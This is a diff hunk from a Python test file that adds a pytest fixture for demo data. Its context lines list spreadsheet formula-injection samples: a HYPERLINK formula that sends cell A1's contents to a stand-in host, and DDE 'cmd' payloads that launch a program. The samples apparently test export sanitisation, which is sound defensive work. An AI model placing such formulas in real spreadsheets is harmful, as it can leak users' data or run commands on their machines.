@@ -16,6 +16,9 @@ from app.cli import main
 from reader.simulator.population import POPULATION
 from tests.faults_support import one_line
 
+# Its --demo runs write to the demo's own data folder, which this test reads (tests/conftest.py).
+pytestmark = pytest.mark.usefixtures("demo_data_folder")
+
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
             "+cmd|' /C calc'!A0", "-2+3"]
 
